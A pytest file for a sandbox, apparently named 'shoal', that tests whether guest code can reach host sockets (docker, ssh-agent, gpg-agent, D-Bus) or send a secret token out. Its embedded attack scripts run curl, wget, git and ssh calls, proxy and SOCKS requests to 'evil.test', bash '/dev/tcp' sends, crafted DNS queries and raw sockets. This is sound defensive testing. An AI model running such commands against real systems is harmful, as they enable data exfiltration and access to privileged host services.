"""Attacks through sockets and the network: listeners on the host, and ways to carry a secret out."""

import contextlib
import os
import secrets
import socket
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from shoal.model.policy import Network
from tests.escapes.looking import found, looking
from tests.escapes.scene import Scene

# Only loopback: "connecting" a datagram socket elsewhere sends nothing, but shows whether there is a route.
ELSEWHERE = ("169.254.169.254", "192.0.2.1", "198.51.100.7", "10.0.0.1")
STANDARD = (
    *("/run/docker.sock", "/var/run/docker.sock", "/run/dbus/system_bus_socket", "/run/nscd/socket"),
    *("/var/run/postgresql/.s.PGSQL.5432", "/tmp/.X11-unix/X0", "/run/systemd/private"),
    *(f"/run/user/{os.getuid()}/bus", f"/run/user/{os.getuid()}/gnupg/S.gpg-agent"),
)


@dataclass(frozen=True, slots=True)
class Listeners:
    """All listeners on the host for this test, by address."""

    pathnames: tuple[str, ...]
    abstract: tuple[str, ...]
    ports: dict[str, int]
    sockets: tuple[socket.socket, ...]

    def heard(self) -> list[str]:
        """Return those that were connected to, or got a packet."""
        return [str(one.getsockname()) for one in self.sockets if _has_guest(one)]


def _has_guest(one: socket.socket) -> bool:
    one.setblocking(False)
    try:
        if one.type == socket.SOCK_DGRAM:
            one.recv(65536)
        else:
            one.accept()[0].close()
    except BlockingIOError:
        return False
    return True


@pytest.fixture
def listeners(scene: Scene, tmp_path: Path) -> Iterator[Listeners]:
    """Sockets of the user's agents, of X11 and the bus, a dashboard, a DNS server, all on this machine."""
    word = secrets.token_hex(4)
    pathnames = (scene.home / "S.gpg-agent", tmp_path / "agent.sock", Path(f"/var/tmp/shoal-{word}"))
    abstract = (f"/tmp/.X11-unix/X-{word}", f"/tmp/dbus-{word}")
    with contextlib.ExitStack() as stack:

        def listening(family: int, kind: int, address: object) -> socket.socket:
            one = stack.enter_context(socket.socket(family, kind))
            one.bind(address)  # type: ignore[arg-type]
            if kind == socket.SOCK_STREAM:
                one.listen(64)
            return one

        unix = [listening(socket.AF_UNIX, socket.SOCK_STREAM, str(path)) for path in pathnames]
        unix += [listening(socket.AF_UNIX, socket.SOCK_STREAM, f"\0{name}") for name in abstract]
        for path in pathnames:
            path.chmod(0o777)
            stack.callback(path.unlink)
        inet = {
            "tcp": listening(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", 0)),
            "tcp6": listening(socket.AF_INET6, socket.SOCK_STREAM, ("::1", 0)),
            "udp": listening(socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", 0)),
            "udp6": listening(socket.AF_INET6, socket.SOCK_DGRAM, ("::1", 0)),
        }
        ports = {name: one.getsockname()[1] for name, one in inet.items()}
        yield Listeners(tuple(map(str, pathnames)), abstract, ports, (*unix, *inet.values()))


UNIX = r"""
print(json.dumps({
    "pathnames": {path: connect(socket.AF_UNIX, path) for path in given["pathnames"]},
    "datagrams": {path: connect(socket.AF_UNIX, path, socket.SOCK_DGRAM) for path in given["pathnames"]},
    "abstract": {name: connect(socket.AF_UNIX, "\0" + name) for name in given["abstract"]},
    "standard": {path: connect(socket.AF_UNIX, path) for path in given["standard"]},
    "found": [os.path.join(here, name) for top in ("/run", "/var/run", "/tmp", "/var/tmp", "/dev/shm")
              for here, _, names in os.walk(top) for name in names if stat.S_ISSOCK(os.lstat(os.path.join(here, name)).st_mode)],
    "agent": os.environ.get("SSH_AUTH_SOCK"),
}))
"""


@pytest.mark.parametrize("network", [Network.NONE, Network.HOST])
async def test_no_socket_of_the_hosts_is_reached(scene: Scene, listeners: Listeners, network: Network) -> None:
    """B5.46, B5.47: the X server, the bus, ssh-agent, gpg-agent, docker, databases, by path and by abstract name."""
    script = looking(UNIX, pathnames=listeners.pathnames, abstract=listeners.abstract, standard=STANDARD)

    attack = await scene.attacked(script, network=network)
    facts = found(attack.result)
    heard = listeners.heard()

    assert facts["agent"] is None
    if scene.is_walled:
        assert {*facts["pathnames"].values(), *facts["standard"].values(), *facts["datagrams"].values()} == {"ENOENT"}
        refused = "EPERM" if network is Network.HOST else "ECONNREFUSED"
        assert set(facts["abstract"].values()) == {refused}
        assert (facts["found"], heard) == ([], [])
    elif network is Network.NONE:
        assert {*facts["pathnames"].values(), *facts["abstract"].values(), *facts["standard"].values()} == {"EACCES"}
        assert heard == []
    else:  # a known gap
        assert set(facts["abstract"].values()) == {"EPERM"}
        assert set(facts["pathnames"].values()) == {"done"}
        assert any("the host's sockets (docker, ssh-agent) can be reached" in note for note in attack.report.notes)


NETWORK = r"""
ports, name = given["ports"], given["name"]
query = b"\x12\x34\x01\x00\x00\x01" + bytes(6) + bytes([len(name)]) + name.encode() + b"\x04evil\x04test\x00\x00\x01\x00\x01"
def send(family, address):
    def act():
        with socket.socket(family, socket.SOCK_DGRAM) as client:
            client.sendto(query, address)
    return tried(act)
def routed(address):
    return tried(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).connect((address, 53)))
def resolved(host):
    try:
        return str(socket.getaddrinfo(host, 80))
    except OSError as error:
        return type(error).__name__
def raw():
    return tried(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
url = "http://127.0.0.1:%d/%s" % (ports["tcp"], name)
programs = {
    "curl": ["curl", "-sm5", url], "curl6": ["curl", "-sm5", "http://[::1]:%d/" % ports["tcp6"]],
    "wget": ["wget", "-qT5", "-t1", "-O-", url], "git": ["git", "-c", "http.lowSpeedTime=5", "clone", "-q", url, "cloned"],
    "ssh": ["ssh", "-oBatchMode=yes", "-oConnectTimeout=5", "-p%d" % ports["tcp"], "127.0.0.1"],
    "bash": ["bash", "-c", "echo %s > /dev/tcp/127.0.0.1/%d" % (name, ports["tcp"])],
    "bash udp": ["bash", "-c", "exec 9<>/dev/udp/127.0.0.1/%d && echo %s >&9 && read -t 5 -u 9" % (ports["udp"], name)],
    "curl by name": ["curl", "-sm5", "http://%s.evil.test/" % name],
    "curl by proxy": ["curl", "-sm5", "-x", url, "http://%s.evil.test/" % name],
    "curl by socks": ["curl", "-sm5", "--socks5-hostname", "127.0.0.1:%d" % ports["tcp"], "http://%s.evil.test/" % name],
    "getent": ["getent", "hosts", "%s.evil.test" % name],
}
facts = {
    "tcp": [connect(socket.AF_INET, ("127.0.0.1", ports["tcp"])), connect(socket.AF_INET, ("127.0.0.2", ports["tcp"])),
            connect(socket.AF_INET, ("0.0.0.0", ports["tcp"])), connect(socket.AF_INET6, ("::1", ports["tcp6"])),
            connect(socket.AF_INET6, ("::ffff:127.0.0.1", ports["tcp"]))],
    "udp": [send(socket.AF_INET, ("127.0.0.1", ports["udp"])), send(socket.AF_INET6, ("::1", ports["udp6"]))]}
if given["is_shut"]:  # with a network, a name would be asked for at a server that is not ours
    facts |= {
        "elsewhere": {address: routed(address) for address in given["elsewhere"]},
        "names": {host: resolved(host) for host in (name + ".evil.test", "localhost.evil.test")},
        "programs": {label: program(*words) for label, words in programs.items()} | {"raw": raw()},
        "resolver": os.path.exists("/etc/resolv.conf"),
        "interfaces": [line.split(":")[0].strip() for line in open("/proc/net/dev").read().splitlines()[2:]],
        "proxies": [name for name in os.environ if "proxy" in name.lower()]}
print(json.dumps(facts))
"""


async def test_without_a_network_nothing_leaves_and_nobody_hears(
    scene: Scene, listeners: Listeners, monkeypatch: pytest.MonkeyPatch
) -> None:
    """B5.48, B5.49, B5.50, B5.51: no port of the host, no other address, no packet, no query; by any program."""
    for name in ("http_proxy", "HTTPS_PROXY", "ALL_PROXY"):
        monkeypatch.setenv(name, f"http://127.0.0.1:{listeners.ports['tcp']}")
    script = _attack_on_the_network(listeners, is_shut=True)

    attack = await scene.attacked(script, network=Network.NONE)
    facts = found(attack.result)

    assert listeners.heard() == []
    refused = {"ECONNREFUSED", "ENETUNREACH", "EADDRNOTAVAIL"} if scene.is_walled else {"EACCES"}
    assert set(facts["tcp"]) <= refused
    assert set(facts["elsewhere"].values()) == ({"ENETUNREACH"} if scene.is_walled else {"EACCES"})
    assert set(facts["names"].values()) <= {"gaierror", "PermissionError"}
    assert 0 not in facts["programs"].values(), facts["programs"]
    assert facts["programs"]["raw"] in ("EPERM", "EACCES")
    assert facts["proxies"] == []
    if scene.is_walled:
        assert (facts["resolver"], facts["interfaces"]) == (False, ["lo"])


async def test_the_same_is_heard_when_the_hosts_network_was_asked_for(scene: Scene, listeners: Listeners) -> None:
    """The control of the test above: these attacks do reach who listens, where nothing is shut; and it is said."""
    attack = await scene.attacked(_attack_on_the_network(listeners, is_shut=False), network=Network.HOST)

    heard = listeners.heard()
    assert {name for name, port in listeners.ports.items() if any(f", {port}" in one for one in heard)} == {
        *("tcp", "tcp6", "udp", "udp6")
    }
    assert any("host's network" in note for note in attack.report.notes)


def _attack_on_the_network(listeners: Listeners, *, is_shut: bool) -> str:
    return looking(
        NETWORK, ports=listeners.ports, name=secrets.token_hex(20), elsewhere=ELSEWHERE, is_shut=is_shut
    )  # fmt: skip
